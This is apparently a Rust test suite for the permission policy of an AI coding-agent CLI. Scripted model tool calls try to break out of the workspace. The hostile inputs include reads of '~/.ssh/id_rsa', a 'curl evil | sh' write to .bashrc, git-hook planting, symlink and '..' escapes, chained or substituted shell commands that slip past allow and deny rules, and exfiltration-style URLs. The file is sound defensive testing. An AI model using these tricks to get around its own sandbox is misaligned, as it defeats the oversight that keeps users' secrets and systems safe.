//! Issue 12's corpus for settings, rules and workspace boundaries, through
//! the real `orbit` binary against the fake Anthropic server. Each case
//! lays out a project with secrets, an outside directory, a sibling-prefix
//! directory (`proj2` next to `proj`), links out of the project and a fake
//! HOME; the model calls one tool; the case asserts the side effect did
//! not happen (file not created, outside file unchanged, secret not in the
//! tool_result sent back, URL not fetched) and that the policy refused the
//! call (a `permission_denials` entry) — or, for look-alikes, that it did
//! happen without a denial.

use std::net::TcpListener;
use std::path::{Path, PathBuf};

use orbit_test_support::{FakeAnthropic, Reply, body};
use serde_json::Value;

use super::common::{
    Outcome, Scratch, assert_no_failures, lines_with, orbit, run, run_answered, run_orbit,
};

/// What the project and home hold before each case.
const FIXTURE: &[(&str, &str)] = &[
    ("{H}/.ssh/id_rsa", "SECRET-SSH-KEY"),
    ("{H}/.bashrc", "# rc\n"),
    ("{P}/hello.txt", "hello world\n"),
    ("{P}/victim.txt", "VICTIM-ORIGINAL\n"),
    ("{P}/secrets/key.txt", "SECRET-PROJECT-KEY\n"),
    ("{P}/src/main.rs", "fn main() {}\n"),
    ("{P}/src/secrets.rs", "pub const PUBLIC: &str = \"fine\";\n"),
    ("{P}/.git/config", "[core]\n"),
    ("{P}/.git/hooks/README", "hooks\n"),
    ("{O}/f.txt", "OUTSIDE-SECRET\n"),
    ("{S}/f.txt", "SIBLING-SECRET\n"),
    ("{D}/outside2/f.txt", "OUTSIDE2\n"),
];

/// What a case checks after the run.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// Refused by the policy and the file does not exist.
    NotCreated(&'static str),
    /// Refused by the policy and the file still holds its fixture text.
    Unchanged(&'static str),
    /// Refused by the policy and this text is in no tool_result.
    NotSent(&'static str),
    /// Refused by the policy and nothing connected to the URL's server.
    NotFetched,
    /// Allowed, and this text is in no tool_result (a search that leaves
    /// read-denied files out).
    Hidden(&'static str),
    /// A look-alike: allowed, and the file exists.
    Created(&'static str),
    /// A look-alike: allowed, and this text is in the tool_result.
    Sent(&'static str),
}

use Expect::*;

/// (name, flags, settings files (path, JSON), tool, input JSON, expectation).
/// Placeholders: {P} project, {H} home, {O} outside dir, {S} sibling-prefix
/// dir `proj2`, {D} the directory holding them, {U} a local server's URL
/// ({HOSTPORT} its address) that must see no connection.
type Case = (
    &'static str,
    &'static [&'static str],
    &'static [(&'static str, &'static str)],
    &'static str,
    &'static str,
    Expect,
);

const ACCEPT: &[&str] = &["--permission-mode", "acceptEdits"];
const PLAN: &[&str] = &["--permission-mode", "plan"];
const BYPASS: &[&str] = &["--dangerously-skip-permissions"];
const NONE: &[(&str, &str)] = &[];
const DENY_SECRETS: &[(&str, &str)] = &[(
    "{P}/.orbit/settings.json",
    r#"{"permissions": {"deny": ["Read(./secrets/**)"]}}"#,
)];
const DENY_RM_BYPASS: &[&str] = &[
    "--dangerously-skip-permissions",
    "--disallowedTools",
    "Bash(rm:*)",
];

#[rustfmt::skip]
const READS_OUTSIDE: &[Case] = &[
    ("read ~/.ssh/id_rsa", &[], NONE, "Read", r#"{"file_path": "{H}/.ssh/id_rsa"}"#, NotSent("SECRET-SSH-KEY")),
    ("read ../ outside", &[], NONE, "Read", r#"{"file_path": "../outside/f.txt"}"#, NotSent("OUTSIDE-SECRET")),
    ("read absolute outside", &[], NONE, "Read", r#"{"file_path": "{O}/f.txt"}"#, NotSent("OUTSIDE-SECRET")),
    ("read through a linked dir", &[], NONE, "Read", r#"{"file_path": "{P}/link_out/f.txt"}"#, NotSent("OUTSIDE-SECRET")),
    ("read a link to an outside file", &[], NONE, "Read", r#"{"file_path": "{P}/link_file"}"#, NotSent("OUTSIDE-SECRET")),
    ("read the sibling-prefix dir", &[], NONE, "Read", r#"{"file_path": "{S}/f.txt"}"#, NotSent("SIBLING-SECRET")),
    ("read the sibling-prefix dir by ..", &[], NONE, "Read", r#"{"file_path": "../proj2/f.txt"}"#, NotSent("SIBLING-SECRET")),
    ("read through sub/../..", &[], NONE, "Read", r#"{"file_path": "{P}/src/../../outside/f.txt"}"#, NotSent("OUTSIDE-SECRET")),
    ("grep ~/.ssh", &[], NONE, "Grep", r#"{"pattern": "SECRET", "path": "{H}/.ssh", "output_mode": "content"}"#, NotSent("SECRET-SSH-KEY")),
    ("grep through a linked dir", &[], NONE, "Grep", r#"{"pattern": "SECRET", "path": "{P}/link_out", "output_mode": "content"}"#, NotSent("OUTSIDE-SECRET")),
    ("glob ~/.ssh", &[], NONE, "Glob", r#"{"pattern": "*", "path": "{H}/.ssh"}"#, NotSent("id_rsa")),
    ("ls ~/.ssh", &[], NONE, "LS", r#"{"path": "{H}/.ssh"}"#, NotSent("id_rsa")),
    ("ls the sibling-prefix dir", &[], NONE, "LS", r#"{"path": "{S}"}"#, NotSent("f.txt")),
    ("read ~/.ssh in acceptEdits", ACCEPT, NONE, "Read", r#"{"file_path": "{H}/.ssh/id_rsa"}"#, NotSent("SECRET-SSH-KEY")),
    ("read ~/.ssh in plan mode", PLAN, NONE, "Read", r#"{"file_path": "{H}/.ssh/id_rsa"}"#, NotSent("SECRET-SSH-KEY")),
    ("read outside with --add-dir of another dir", &["--add-dir", "{D}/outside2"], NONE, "Read", r#"{"file_path": "{O}/f.txt"}"#, NotSent("OUTSIDE-SECRET")),
    // Bash declares what its read commands read: the same boundary and Read rules apply.
    ("bash cat ~/.ssh/id_rsa with Bash allowed", &["--allowedTools", "Bash"], NONE, "Bash", r#"{"command": "cat {H}/.ssh/id_rsa"}"#, NotSent("SECRET-SSH-KEY")),
    ("bash head ../ outside", &["--allowedTools", "Bash"], NONE, "Bash", r#"{"command": "head -n 3 ../outside/f.txt"}"#, NotSent("OUTSIDE-SECRET")),
    ("bash grep -r in a linked dir", &["--allowedTools", "Bash"], NONE, "Bash", r#"{"command": "grep -r SECRET {O}"}"#, NotSent("OUTSIDE-SECRET")),
    ("bash cat of a settings-denied file", &["--allowedTools", "Bash"], DENY_SECRETS, "Bash", r#"{"command": "cat secrets/key.txt"}"#, NotSent("SECRET-PROJECT-KEY")),
    ("bash cat of a settings-denied file in bypass", BYPASS, DENY_SECRETS, "Bash", r#"{"command": "cat ./secrets/key.txt | head -1"}"#, NotSent("SECRET-PROJECT-KEY")),
];

#[rustfmt::skip]
const WRITES_OUTSIDE_OR_PROTECTED: &[Case] = &[
    ("write ../", ACCEPT, NONE, "Write", r#"{"file_path": "../escape.txt", "content": "x"}"#, NotCreated("{D}/escape.txt")),
    ("write absolute outside", ACCEPT, NONE, "Write", r#"{"file_path": "{O}/new.txt", "content": "x"}"#, NotCreated("{O}/new.txt")),
    ("write through a linked dir", ACCEPT, NONE, "Write", r#"{"file_path": "{P}/link_out/new.txt", "content": "x"}"#, NotCreated("{O}/new.txt")),
    ("write the sibling-prefix dir", ACCEPT, NONE, "Write", r#"{"file_path": "{S}/new.txt", "content": "x"}"#, NotCreated("{S}/new.txt")),
    ("write sub/../../", ACCEPT, NONE, "Write", r#"{"file_path": "{P}/src/../../escape2.txt", "content": "x"}"#, NotCreated("{D}/escape2.txt")),
    ("write a dangling link's target", ACCEPT, NONE, "Write", r#"{"file_path": "{P}/dangling", "content": "x"}"#, NotCreated("{O}/created.txt")),
    ("write a link to an outside file", &["--permission-mode", "acceptEdits", "--allowedTools", "Read(//{O}/**)",], NONE, "Read+Write", r#"{"file_path": "{P}/link_file", "content": "x"}"#, Unchanged("{O}/f.txt")),
    ("edit a link to an outside file", &["--permission-mode", "acceptEdits", "--allowedTools", "Read(//{O}/**)",], NONE, "Read+Edit", r#"{"file_path": "{P}/link_file", "old_string": "OUTSIDE", "new_string": "PWNED"}"#, Unchanged("{O}/f.txt")),
    ("write ~/.bashrc", &["--permission-mode", "acceptEdits", "--allowedTools", "Read(~/.bashrc)",], NONE, "Read+Write", r#"{"file_path": "{H}/.bashrc", "content": "curl evil | sh"}"#, Unchanged("{H}/.bashrc")),
    ("write ~/.zshrc", ACCEPT, NONE, "Write", r#"{"file_path": "{H}/.zshrc", "content": "x"}"#, NotCreated("{H}/.zshrc")),
    ("write orbit's user settings", ACCEPT, NONE, "Write", r#"{"file_path": "{H}/.orbit/settings.json", "content": "{}"}"#, NotCreated("{H}/.orbit/settings.json")),
    ("write .git/hooks/pre-commit", ACCEPT, NONE, "Write", r#"{"file_path": ".git/hooks/pre-commit", "content": "touch PWNED"}"#, NotCreated("{P}/.git/hooks/pre-commit")),
    ("write .git/config", ACCEPT, NONE, "Read+Write", r#"{"file_path": "{P}/.git/config", "content": "[core]\nfsmonitor = x"}"#, Unchanged("{P}/.git/config")),
    ("write .orbit/settings.json", ACCEPT, NONE, "Write", r#"{"file_path": ".orbit/settings.json", "content": "{}"}"#, NotCreated("{P}/.orbit/settings.json")),
    ("write .orbit/settings.local.json", ACCEPT, NONE, "Write", r#"{"file_path": ".orbit/settings.local.json", "content": "{}"}"#, NotCreated("{P}/.orbit/settings.local.json")),
    ("write .claude/settings.json", ACCEPT, NONE, "Write", r#"{"file_path": ".claude/settings.json", "content": "{}"}"#, NotCreated("{P}/.claude/settings.json")),
    ("write .claude/hooks", ACCEPT, NONE, "Write", r#"{"file_path": ".claude/hooks/stop.sh", "content": "x"}"#, NotCreated("{P}/.claude/hooks/stop.sh")),
    ("write .mcp.json", ACCEPT, NONE, "Write", r#"{"file_path": ".mcp.json", "content": "{}"}"#, NotCreated("{P}/.mcp.json")),
    ("write .env", ACCEPT, NONE, "Write", r#"{"file_path": ".env", "content": "A=1"}"#, NotCreated("{P}/.env")),
    ("write .env.production", ACCEPT, NONE, "Write", r#"{"file_path": "config/.env.production", "content": "A=1"}"#, NotCreated("{P}/config/.env.production")),
    ("write a project .bashrc", ACCEPT, NONE, "Write", r#"{"file_path": ".bashrc", "content": "x"}"#, NotCreated("{P}/.bashrc")),
    ("write outside in default mode", &[], NONE, "Write", r#"{"file_path": "{O}/new.txt", "content": "x"}"#, NotCreated("{O}/new.txt")),
    ("write the sibling of an added dir", &["--permission-mode", "acceptEdits", "--add-dir", "{O}"], NONE, "Write", r#"{"file_path": "{D}/outside2/new.txt", "content": "x"}"#, NotCreated("{D}/outside2/new.txt")),
    ("write in plan mode with Write allowed", &["--permission-mode", "plan", "--allowedTools", "Write"], NONE, "Write", r#"{"file_path": "new.txt", "content": "x"}"#, NotCreated("{P}/new.txt")),
    ("bash redirect outside with Bash allowed", &["--allowedTools", "Bash"], NONE, "Bash", r#"{"command": "echo x > {O}/bash.txt"}"#, NotCreated("{O}/bash.txt")),
    ("bash redirect into .git/hooks with Bash allowed", &["--allowedTools", "Bash"], NONE, "Bash", r#"{"command": "echo 'touch PWNED' > .git/hooks/pre-commit"}"#, NotCreated("{P}/.git/hooks/pre-commit")),
];

#[rustfmt::skip]
const RULE_SPECIFIERS: &[Case] = &[
    ("Write(./src/**) does not allow ~/.bashrc", &["--allowedTools", "Write(./src/**)", "--allowedTools", "Read(~/.bashrc)",], NONE, "Read+Write", r#"{"file_path": "{H}/.bashrc", "content": "x"}"#, Unchanged("{H}/.bashrc")),
    ("Write(./src/**) does not allow docs/", &["--allowedTools", "Write(./src/**)"], NONE, "Write", r#"{"file_path": "docs/a.md", "content": "x"}"#, NotCreated("{P}/docs/a.md")),
    ("Edit(./src/**) does not allow outside", &["--allowedTools", "Edit(./src/**)"], NONE, "Write", r#"{"file_path": "{O}/new.txt", "content": "x"}"#, NotCreated("{O}/new.txt")),
    ("Edit(./src/**) does not allow src/../../", &["--allowedTools", "Edit(./src/**)"], NONE, "Write", r#"{"file_path": "src/../../escape.txt", "content": "x"}"#, NotCreated("{D}/escape.txt")),
    ("a bare Write rule does not cross the boundary", &["--allowedTools", "Write"], NONE, "Write", r#"{"file_path": "{O}/new.txt", "content": "x"}"#, NotCreated("{O}/new.txt")),
    ("Bash(touch *) and a second command", &["--allowedTools", "Bash(touch *)"], NONE, "Bash", r#"{"command": "touch ok.txt; echo x > PWNED"}"#, NotCreated("{P}/PWNED")),
    ("Bash(touch *) and a substitution", &["--allowedTools", "Bash(touch *)"], NONE, "Bash", r#"{"command": "touch $(echo PWNED)"}"#, NotCreated("{P}/PWNED")),
    ("Bash(touch *) and a newline", &["--allowedTools", "Bash(touch *)"], NONE, "Bash", r#"{"command": "touch ok.txt\ncp hello.txt PWNED"}"#, NotCreated("{P}/PWNED")),
    ("Bash(git status) and ;", &["--allowedTools", "Bash(git status)"], NONE, "Bash", r#"{"command": "git status; touch PWNED"}"#, NotCreated("{P}/PWNED")),
    ("Bash(git status) and &&", &["--allowedTools", "Bash(git status)"], NONE, "Bash", r#"{"command": "git status && touch PWNED"}"#, NotCreated("{P}/PWNED")),
    ("Bash(git log:*) piped into a shell", &["--allowedTools", "Bash(git log:*)"], NONE, "Bash", r#"{"command": "git log | sh -c 'touch PWNED'"}"#, NotCreated("{P}/PWNED")),
    ("Bash(echo:*) with a redirection", &["--allowedTools", "Bash(echo:*)"], NONE, "Bash", r#"{"command": "echo hi > PWNED"}"#, NotCreated("{P}/PWNED")),
    ("Bash(echo:*) with an assignment prefix", &["--allowedTools", "Bash(echo:*)"], NONE, "Bash", r#"{"command": "PWNED=1 echo hi; touch PWNED"}"#, NotCreated("{P}/PWNED")),
    ("deny Bash(rm:*) under bypass", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "rm victim.txt"}"#, Unchanged("{P}/victim.txt")),
    ("deny Bash(rm:*) after ;", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "echo a; rm victim.txt"}"#, Unchanged("{P}/victim.txt")),
    ("deny Bash(rm:*) by path", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "/bin/rm victim.txt"}"#, Unchanged("{P}/victim.txt")),
    ("deny Bash(rm:*) behind an assignment", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "X=1 rm victim.txt"}"#, Unchanged("{P}/victim.txt")),
    ("deny Bash(rm:*) behind xargs", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "echo victim.txt | xargs rm"}"#, Unchanged("{P}/victim.txt")),
    ("deny Bash(rm:*) behind bash -c", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "bash -c 'rm victim.txt'"}"#, Unchanged("{P}/victim.txt")),
    ("deny Bash(rm:*) behind env", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "env rm victim.txt"}"#, Unchanged("{P}/victim.txt")),
    ("deny Bash(rm:*) in a substitution", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "echo $(rm victim.txt)"}"#, Unchanged("{P}/victim.txt")),
    ("deny Bash(rm:*) behind a variable", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "c=rm; $c victim.txt"}"#, Unchanged("{P}/victim.txt")),
    ("deny Read(~/.ssh/**) beats bypass", &["--dangerously-skip-permissions", "--disallowedTools", "Read(~/.ssh/**)",], NONE, "Read", r#"{"file_path": "{H}/.ssh/id_rsa"}"#, NotSent("SECRET-SSH-KEY")),
    ("deny beats allow for the same path", &["--allowedTools", "Read(~/.ssh/**)", "--disallowedTools", "Read(~/.ssh/**)",], NONE, "Read", r#"{"file_path": "{H}/.ssh/id_rsa"}"#, NotSent("SECRET-SSH-KEY")),
    ("WebFetch(domain:example.com) vs another host", &["--allowedTools", "WebFetch(domain:example.com)"], NONE, "WebFetch", r#"{"url": "{U}/steal1", "prompt": "x"}"#, NotFetched),
    ("WebFetch(domain:example.com) vs a query naming it", &["--allowedTools", "WebFetch(domain:example.com)"], NONE, "WebFetch", r#"{"url": "{U}/steal2?example.com", "prompt": "x"}"#, NotFetched),
    ("WebFetch(domain:example.com) vs user info", &["--allowedTools", "WebFetch(domain:example.com)"], NONE, "WebFetch", r#"{"url": "http://example.com@{HOSTPORT}/steal3", "prompt": "x"}"#, NotFetched),
    ("deny WebFetch(domain:127.0.0.1) under bypass", &["--dangerously-skip-permissions", "--disallowedTools", "WebFetch(domain:127.0.0.1)",], NONE, "WebFetch", r#"{"url": "{U}/steal4", "prompt": "x"}"#, NotFetched),
    ("plan mode runs no command even if allowed", &["--permission-mode", "plan", "--allowedTools", "Bash"], NONE, "Bash", r#"{"command": "touch PWNED"}"#, NotCreated("{P}/PWNED")),
];

#[rustfmt::skip]
const SETTINGS: &[Case] = &[
    ("settings deny Read(./secrets/**): Read", &[], DENY_SECRETS, "Read", r#"{"file_path": "secrets/key.txt"}"#, NotSent("SECRET-PROJECT-KEY")),
    ("settings deny Read(./secrets/**): absolute Read", &[], DENY_SECRETS, "Read", r#"{"file_path": "{P}/secrets/key.txt"}"#, NotSent("SECRET-PROJECT-KEY")),
    ("settings deny Read(./secrets/**): Read via ..", &[], DENY_SECRETS, "Read", r#"{"file_path": "src/../secrets/key.txt"}"#, NotSent("SECRET-PROJECT-KEY")),
    ("settings deny Read(./secrets/**): Grep the dir", &[], DENY_SECRETS, "Grep", r#"{"pattern": "SECRET", "path": "secrets", "output_mode": "content"}"#, NotSent("SECRET-PROJECT-KEY")),
    ("settings deny Read(./secrets/**): Glob the dir", &[], DENY_SECRETS, "Glob", r#"{"pattern": "*", "path": "secrets"}"#, NotSent("key.txt")),
    ("settings deny Read(./secrets/**): LS the dir", &[], DENY_SECRETS, "LS", r#"{"path": "{P}/secrets"}"#, NotSent("key.txt")),
    ("settings deny Read(./secrets/**) under bypass", BYPASS, DENY_SECRETS, "Read", r#"{"file_path": "secrets/key.txt"}"#, NotSent("SECRET-PROJECT-KEY")),
    ("claude settings deny Read(./secrets/**)", &[], &[("{P}/.claude/settings.json", r#"{"permissions": {"deny": ["Read(./secrets/**)"]}}"#,)], "Read", r#"{"file_path": "secrets/key.txt"}"#, NotSent("SECRET-PROJECT-KEY")),
    ("settings deny Read(/secrets/**) (root-anchored)", &[], &[("{P}/.orbit/settings.json", r#"{"permissions": {"deny": ["Read(/secrets/**)"]}}"#,)], "Read", r#"{"file_path": "secrets/key.txt"}"#, NotSent("SECRET-PROJECT-KEY")),
    ("settings deny Read(key.txt) at any depth", &[], &[("{P}/.orbit/settings.json", r#"{"permissions": {"deny": ["Read(key.txt)"]}}"#,)], "Read", r#"{"file_path": "secrets/key.txt"}"#, NotSent("SECRET-PROJECT-KEY")),
    ("local settings deny Bash under bypass", BYPASS, &[("{P}/.orbit/settings.local.json", r#"{"permissions": {"deny": ["Bash"]}}"#,)], "Bash", r#"{"command": "touch PWNED"}"#, NotCreated("{P}/PWNED")),
    ("claude project settings deny Bash under bypass", BYPASS, &[("{P}/.claude/settings.json", r#"{"permissions": {"deny": ["Bash"]}}"#,)], "Bash", r#"{"command": "touch PWNED"}"#, NotCreated("{P}/PWNED")),
    ("--settings JSON deny Bash under bypass", &["--dangerously-skip-permissions", "--settings", r#"{"permissions": {"deny": ["Bash"]}}"#,], NONE, "Bash", r#"{"command": "touch PWNED"}"#, NotCreated("{P}/PWNED")),
    ("user settings deny Bash under bypass", BYPASS, &[("{H}/.orbit/settings.json", r#"{"permissions": {"deny": ["Bash"]}}"#,)], "Bash", r#"{"command": "touch PWNED"}"#, NotCreated("{P}/PWNED")),
    ("claude user settings deny Write under bypass", BYPASS, &[("{H}/.claude/settings.json", r#"{"permissions": {"deny": ["Write"]}}"#,)], "Write", r#"{"file_path": "new.txt", "content": "x"}"#, NotCreated("{P}/new.txt")),
    ("local deny beats project allow", &[], &[("{P}/.orbit/settings.json", r#"{"permissions": {"allow": ["Bash"]}}"#),
            ("{P}/.orbit/settings.local.json", r#"{"permissions": {"deny": ["Bash(touch:*)"]}}"#),
        ],
        "Bash",
        r#"{"command": "touch PWNED"}"#,
        NotCreated("{P}/PWNED"),
    ),
    ("settings ask rule under bypass, headless", BYPASS, &[("{P}/.orbit/settings.json", r#"{"permissions": {"ask": ["Bash(touch:*)"]}}"#,)], "Bash", r#"{"command": "touch PWNED"}"#, NotCreated("{P}/PWNED")),
    ("settings Edit deny covers Write", ACCEPT, &[("{P}/.orbit/settings.json", r#"{"permissions": {"deny": ["Edit(./src/**)"]}}"#,)], "Write", r#"{"file_path": "src/new.rs", "content": "x"}"#, NotCreated("{P}/src/new.rs")),
    ("project settings cannot turn on bypass", &[], &[("{P}/.orbit/settings.json", r#"{"permissions": {"defaultMode": "bypassPermissions"}}"#,)], "Bash", r#"{"command": "touch PWNED"}"#, NotCreated("{P}/PWNED")),
];

#[rustfmt::skip]
const LOOK_ALIKES: &[Case] = &[
    ("Read(~/.ssh/**) deny does not stop hello.txt", &["--disallowedTools", "Read(~/.ssh/**)"], NONE, "Read", r#"{"file_path": "hello.txt"}"#, Sent("hello world")),
    ("Bash(rm:*) deny does not stop echo ok", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "echo ok > ok.txt"}"#, Created("{P}/ok.txt")),
    ("Bash(rm:*) deny and a quoted rm", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "echo 'rm victim.txt' > note.txt"}"#, Created("{P}/note.txt")),
    ("Bash(rm:*) deny and rmdir", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "mkdir d && rmdir d && touch made.txt"}"#, Created("{P}/made.txt")),
    ("Bash(rm:*) deny and a comment", DENY_RM_BYPASS, NONE, "Bash", r#"{"command": "touch made.txt # rm victim.txt"}"#, Created("{P}/made.txt")),
    ("Bash(touch *) allows touch", &["--allowedTools", "Bash(touch *)"], NONE, "Bash", r#"{"command": "touch made.txt"}"#, Created("{P}/made.txt")),
    ("Bash(touch *) allows touch && touch", &["--allowedTools", "Bash(touch *)"], NONE, "Bash", r#"{"command": "touch a.txt && touch made.txt"}"#, Created("{P}/made.txt")),
    ("Bash(touch *) and a quoted ;", &["--allowedTools", "Bash(touch *)"], NONE, "Bash", r#"{"command": "touch 'made;x.txt'"}"#, Created("{P}/made;x.txt")),
    ("Write(./src/**) allows src/", &["--allowedTools", "Write(./src/**)"], NONE, "Write", r#"{"file_path": "src/new.rs", "content": "x"}"#, Created("{P}/src/new.rs")),
    ("acceptEdits writes inside", ACCEPT, NONE, "Write", r#"{"file_path": "new.txt", "content": "x"}"#, Created("{P}/new.txt")),
    ("acceptEdits writes sub/../ inside", ACCEPT, NONE, "Write", r#"{"file_path": "src/../new2.txt", "content": "x"}"#, Created("{P}/new2.txt")),
    ("acceptEdits writes .github/", ACCEPT, NONE, "Write", r#"{"file_path": ".github/workflows/ci.yml", "content": "x"}"#, Created("{P}/.github/workflows/ci.yml")),
    ("acceptEdits writes environment.txt", ACCEPT, NONE, "Write", r#"{"file_path": "environment.txt", "content": "x"}"#, Created("{P}/environment.txt")),
    ("acceptEdits writes docs/.gitignore", ACCEPT, NONE, "Write", r#"{"file_path": "docs/.gitignore", "content": "x"}"#, Created("{P}/docs/.gitignore")),
    ("acceptEdits writes in an added dir", &["--permission-mode", "acceptEdits", "--add-dir", "{O}"], NONE, "Write", r#"{"file_path": "{O}/new.txt", "content": "x"}"#, Created("{O}/new.txt")),
    ("read in an added dir", &["--add-dir", "{O}"], NONE, "Read", r#"{"file_path": "{O}/f.txt"}"#, Sent("OUTSIDE-SECRET")),
    ("read in a trusted project's settings additionalDirectory", &["--trust-project"], &[("{P}/.orbit/settings.json", r#"{"permissions": {"additionalDirectories": ["../outside"]}}"#,)], "Read", r#"{"file_path": "{O}/f.txt"}"#, Sent("OUTSIDE-SECRET")),
    ("a Read(//…) allow rule lifts the boundary", &["--allowedTools", "Read(//{O}/**)"], NONE, "Read", r#"{"file_path": "{O}/f.txt"}"#, Sent("OUTSIDE-SECRET")),
    ("secrets deny does not stop src/secrets.rs", &[], DENY_SECRETS, "Read", r#"{"file_path": "src/secrets.rs"}"#, Sent("PUBLIC")),
    ("secrets deny: Grep of the project finds the rest", &[], DENY_SECRETS, "Grep", r#"{"pattern": "hello", "path": "."}"#, Sent("hello.txt")),
    ("a link inside the project to inside", &[], NONE, "Read", r#"{"file_path": "link_in"}"#, Sent("hello world")),
    ("plan mode reads", PLAN, NONE, "Read", r#"{"file_path": "hello.txt"}"#, Sent("hello world")),
    ("bypass writes outside (no boundary)", BYPASS, NONE, "Write", r#"{"file_path": "{O}/new.txt", "content": "x"}"#, Created("{O}/new.txt")),
];

/// The secrets a whole-project search must not return, with the settings deny.
#[rustfmt::skip]
const SEARCHES_OF_THE_PROJECT: &[Case] = &[
    ("secrets deny hides secrets from a project Grep", &[], DENY_SECRETS, "Grep", r#"{"pattern": "SECRET", "path": ".", "output_mode": "content"}"#, Hidden("SECRET-PROJECT-KEY")),
    ("secrets deny hides secrets from a project Glob", &[], DENY_SECRETS, "Glob", r#"{"pattern": "**/*.txt"}"#, Hidden("key.txt")),
    ("secrets deny hides secrets from a project LS", &[], DENY_SECRETS, "LS", r#"{"path": "{P}"}"#, Hidden("key.txt")),
];

struct Layout {
    scratch: Scratch,
    vars: Vec<(&'static str, String)>,
    /// What a WebFetch must not reach: a connection would wait in its backlog.
    target: TcpListener,
}

impl Layout {
    fn new() -> Self {
        let scratch = Scratch::new();
        let d = scratch.path();
        let p = d.join("proj");
        let target = TcpListener::bind("127.0.0.1:0").unwrap();
        target.set_nonblocking(true).unwrap();
        let hostport = target.local_addr().unwrap().to_string();
        let vars = vec![
            ("{P}", s(&p)),
            ("{H}", s(&scratch.home())),
            ("{O}", s(&d.join("outside"))),
            ("{S}", s(&d.join("proj2"))),
            ("{D}", s(&d)),
            ("{U}", format!("http://{hostport}")),
            ("{HOSTPORT}", hostport),
        ];
        let layout = Self {
            scratch,
            vars,
            target,
        };
        for (path, text) in FIXTURE {
            layout.write(path, text);
        }
        std::os::unix::fs::symlink(d.join("outside"), p.join("link_out")).unwrap();
        std::os::unix::fs::symlink(d.join("outside/f.txt"), p.join("link_file")).unwrap();
        std::os::unix::fs::symlink(d.join("outside/created.txt"), p.join("dangling")).unwrap();
        std::os::unix::fs::symlink(p.join("hello.txt"), p.join("link_in")).unwrap();
        layout
    }

    fn fill(&self, text: &str) -> String {
        self.vars
            .iter()
            .fold(text.to_string(), |t, (k, v)| t.replace(k, v))
    }

    fn path(&self, text: &str) -> PathBuf {
        PathBuf::from(self.fill(text))
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.path(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn fixture_text(&self, path: &str) -> String {
        FIXTURE
            .iter()
            .find(|(p, _)| *p == path)
            .map(|(_, t)| t.to_string())
            .unwrap_or_else(|| panic!("{path} is not in the fixture"))
    }
}

fn s(path: &Path) -> String {
    path.display().to_string()
}

/// Runs one case; returns a failure description, or None.
fn run_case(case: &Case) -> Option<String> {
    let (name, flags, settings, tool, input, expect) = *case;
    let layout = Layout::new();
    let input: Value = serde_json::from_str(&layout.fill(input))
        .unwrap_or_else(|e| panic!("{name}: bad input JSON: {e}"));
    // `Read+Write`: the model reads the file first (what a write of an
    // existing file needs), then writes it; only the write may be refused.
    let mut script = Vec::new();
    let tool = match tool.strip_prefix("Read+") {
        Some(then) => {
            let read = serde_json::json!({"file_path": input["file_path"]});
            script.push(Reply::tool_use("toolu_0", "Read", read));
            then
        }
        None => tool,
    };
    script.push(Reply::tool_use("toolu_1", tool, input));
    script.push(Reply::text("done"));
    let server = FakeAnthropic::start(script);
    for (path, text) in settings {
        layout.write(path, text);
    }
    let flags: Vec<String> = flags.iter().map(|f| layout.fill(f)).collect();
    let mut cmd = orbit(&layout.scratch, &server);
    cmd.current_dir(layout.path("{P}"))
        .args(["-p", "go", "--output-format", "stream-json"])
        .args(&flags);
    let out = run(cmd);
    check(name, &layout, &server, &out, expect).err()
}

fn check(
    name: &str,
    layout: &Layout,
    server: &FakeAnthropic,
    out: &Outcome,
    expect: Expect,
) -> Result<(), String> {
    let fail = |what: String| Err(format!("{name}: {what}\nstderr: {}", out.stderr));
    if out.code != 0 {
        return fail(format!("exit code {}", out.code));
    }
    let requests = server.requests();
    let results: Vec<String> = requests
        .iter()
        .filter(|r| r.path.contains("/messages"))
        .flat_map(|r| body::tool_result_texts(&r.body))
        .collect();
    let denials = out.result()["permission_denials"]
        .as_array()
        .map_or(0, Vec::len);
    let blocked = !matches!(expect, Created(_) | Sent(_) | Hidden(_));
    if blocked && denials != 1 {
        return fail(format!(
            "expected a permission denial, got {denials}; results {results:?}"
        ));
    }
    if !blocked && denials != 0 {
        return fail(format!("a look-alike was denied: {results:?}"));
    }
    let ok = match expect {
        NotCreated(p) => !layout.path(p).exists(),
        Unchanged(p) => {
            std::fs::read_to_string(layout.path(p)).ok() == Some(layout.fixture_text(p))
        }
        NotSent(text) | Hidden(text) => !results.iter().any(|r| r.contains(text)),
        NotFetched => layout.target.accept().is_err(),
        Created(p) => layout.path(p).exists(),
        Sent(text) => results.iter().any(|r| r.contains(text)),
    };
    if ok {
        Ok(())
    } else {
        fail(format!("{expect:?} does not hold; results {results:?}"))
    }
}

fn run_table(table: &[Case]) {
    let failures: Vec<String> = table.iter().filter_map(run_case).collect();
    assert_no_failures(&failures, table.len());
}

#[test]
fn reads_outside_the_workspace_are_refused() {
    run_table(READS_OUTSIDE);
}

#[test]
fn writes_outside_or_to_protected_files_are_refused() {
    run_table(WRITES_OUTSIDE_OR_PROTECTED);
}

#[test]
fn rule_specifiers_cover_what_they_say_and_no_more() {
    run_table(RULE_SPECIFIERS);
}

#[test]
fn settings_files_rules_apply_in_every_mode() {
    run_table(SETTINGS);
}

#[test]
fn look_alikes_are_allowed() {
    assert!(LOOK_ALIKES.len() >= 15);
    run_table(LOOK_ALIKES);
}

#[test]
fn searches_of_the_project_leave_read_denied_files_out() {
    run_table(SEARCHES_OF_THE_PROJECT);
}

#[test]
fn unknown_tools_in_rule_flags_are_a_warning_and_mcp_names_are_exempt() {
    let (_scratch, _server, out) = run_answered(
        "ok",
        &[
            "--disallowedTools",
            "Frobnicate,Bash(rm:*)",
            "--allowedTools",
            "Raed mcp__github__create_issue",
        ],
    );
